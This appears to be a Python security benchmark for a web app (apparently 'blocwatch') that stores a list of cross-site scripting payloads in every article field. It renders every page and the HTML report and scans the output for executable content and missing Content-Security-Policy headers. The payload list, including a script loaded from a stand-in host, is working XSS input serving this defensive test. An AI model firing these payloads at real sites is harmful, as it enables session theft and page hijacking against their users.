"""The injection benchmark: hostile markup in every field of an article, every page and the report checked.

Each payload (script elements, event handlers, ``javascript:`` and ``data:`` URLs, attribute and
element break-outs, obfuscated schemes) is placed in an article's text (and so its evidence), title,
outlet, URL and claimant name, stored with ``import``, and rendered by the web pages (dashboard,
fact, document, country, pair, search) and the HTML report. A case is *active* when the rendered
HTML holds anything a browser would run; it must also be *shown* (as text) on the document page, so
a payload that vanished does not count as a pass.
"""
from __future__ import annotations

import html
import json
import tempfile
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

PAYLOADS = (
    '<script>alert("s")</script>',
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror=alert("i")>',
    '<svg onload=alert("o")>',
    '<body onload=alert(1)>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(2)>",
    '" onmouseover="alert(3)" x="',
    "' onfocus='alert(4)' autofocus='",
    '<a href="javascript:alert(5)">x</a>',
    "javascript:alert(6)",
    " JaVaScRiPt:alert(7)",
    "java\tscript:alert(8)",
    "&#106;avascript:alert(9)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    '<iframe src="javascript:alert(10)"></iframe>',
    '<iframe srcdoc="<script>alert(11)</script>"></iframe>',
    '<object data="javascript:alert(12)"></object>',
    '<embed src="javascript:alert(13)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(14)">',
    '<base href="javascript:alert(15)//">',
    '<form action="javascript:alert(16)"><button>x</button></form>',
    '<math><a xlink:href="javascript:alert(17)">x</a></math>',
    '<div style="background:url(javascript:alert(18))">x</div>',
    "</textarea></title></style><script>alert(19)</script>",
    "<!--<script>alert(20)</script>-->",
    "<scr<script>ipt>alert(21)</scr</script>ipt>",
    "\u202e<script>alert(22)</script>",
    '<details open ontoggle=alert(23)>',
    "{{7*7}}{% raw %}<script>alert(24)</script>",
    "]]><script>alert(25)</script>",
)
FIELDS = ("text", "title", "outlet", "url", "claimant")
URL_ATTRS = ("href", "src", "action", "formaction", "xlink:href", "data", "srcdoc", "background", "poster")
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
RUNNING_TAGS = ("script", "iframe", "object", "embed", "base", "frame", "frameset", "applet", "link")


def active_content(page: str) -> list[str]:
    """Return every element or attribute of ``page`` a browser would run or that loads a document."""
    found: list[str] = []

    class Finder(HTMLParser):
        def handle_starttag(self, tag, attrs):
            if tag in RUNNING_TAGS and not _own(tag, dict(attrs)) or \
                    (tag == "meta" and any(k == "http-equiv" for k, _ in attrs)):
                found.append(f"<{tag}>")
            for name, value in attrs:
                plain = "".join(ch for ch in html.unescape(value or "") if ch > " ").lower()
                if name.startswith("on"):
                    found.append(f"{tag}.{name}")
                elif name in URL_ATTRS and plain.startswith(BAD_SCHEMES):
                    found.append(f"{tag}.{name}={value[:40]}")
                elif name == "style" and ("javascript:" in plain or "expression(" in plain):
                    found.append(f"{tag}.style")

    Finder(convert_charrefs=True).feed(page)
    return found


def _own(tag: str, attrs: dict) -> bool:
    """Return True for the service's own stylesheet and icon links (a path on the same site)."""
    href = attrs.get("href") or ""
    return tag == "link" and href.startswith("/") and not href.startswith("//")


@dataclass
class InjectionBench:
    """What the injection benchmark measured."""

    payloads: int
    placements: int  # payload x field
    pages_checked: int  # rendered pages and reports searched for active content
    active: int  # pages with anything a browser would run
    not_shown: int  # payloads in the text not found, as text, on their document page
    csp_missing: int  # pages served without the Content-Security-Policy
    seconds: float
    examples: list[str] = field(default_factory=list)


def hostile_record(n: int, payload: str) -> dict:
    """Return an exchange record carrying ``payload`` in every field (its text also in the evidence)."""
    evidence = f"North Korea sent engineers {payload} to Laos"
    return {"id": f"inj-{n}", "published": "2025-04-01", "title": f"Report {payload}", "outlet": f"Wire {payload}",
            "url": payload, "text": f"{evidence} on Monday, officials said.",
            "events": [{"actor": [{"country": "PRK"}], "recipient": [{"country": "LAO"}], "type": "AID",
                        "status": "reported", "evidence": evidence, "when": "2025-03",
                        "source": {"country": "KOR", "name": f"officials {payload}"}}]}


def injection_bench() -> InjectionBench:
    """Store every payload in every field, render every page and the report, and count active content."""
    import time

    from fastapi.testclient import TestClient

    from ..analyze.report import Analytics
    from ..config import Settings
    from ..pipeline import import_coded
    from ..present.api import create_app
    from ..present.report import report_content, write_report
    from ..store import open_store

    started = time.perf_counter()
    result = InjectionBench(payloads=len(PAYLOADS), placements=len(PAYLOADS) * len(FIELDS), pages_checked=0,
                            active=0, not_shown=0, csp_missing=0, seconds=0.0)
    with tempfile.TemporaryDirectory(prefix="blocwatch-injection-") as tmp:
        db, corpus = str(Path(tmp) / "s.duckdb"), Path(tmp) / "hostile.jsonl"
        corpus.write_text("\n".join(json.dumps(hostile_record(n, p)) for n, p in enumerate(PAYLOADS)), encoding="utf-8")
        store = open_store(db)
        report = import_coded([corpus], store, Settings(db=db))
        store.close()
        if report.problems:
            raise RuntimeError(f"hostile records were refused: {report.problems[:3]}")
        with TestClient(create_app(Settings(db=db))) as client:
            for url in _pages(client):
                response = client.get(url, headers={"accept": "text/html"})
                _check(result, url, response.text, response.headers.get("content-security-policy"))
            for n, payload in enumerate(PAYLOADS):
                if payload.strip() not in html.unescape(client.get(f"/documents/inj-{n}").text):
                    result.not_shown += 1
        store = open_store(db, read_only=True)
        try:
            path = write_report(report_content(Analytics.of(store)), Path(tmp) / "report.html")
        finally:
            store.close()
        _check(result, "report", path.read_text(encoding="utf-8"), "report")
    result.seconds = round(time.perf_counter() - started, 1)
    return result


def _pages(client) -> list[str]:
    facts = [f["id"] for f in client.get("/api/facts", params={"limit": 500}).json()["items"]]
    urls = ["/", "/countries/PRK", "/countries/LAO", "/pairs/PRK/LAO", "/search?q=engineers"]
    urls += [f"/facts/{i}" for i in facts] + [f"/documents/inj-{n}" for n in range(len(PAYLOADS))]
    from urllib.parse import quote

    urls += [f"/search?q={quote(p)}" for p in PAYLOADS] + [f"/documents/{quote(p, safe='')}" for p in PAYLOADS[:8]]
    return urls


def _check(result: InjectionBench, where: str, page: str, csp: str | None) -> None:
    result.pages_checked += 1
    if not csp or (csp != "report" and "default-src 'none'" not in csp):
        result.csp_missing += 1
    found = active_content(page)
    if found:
        result.active += 1
        if len(result.examples) < 5:
            result.examples.append(f"{where}: {found[:3]}")
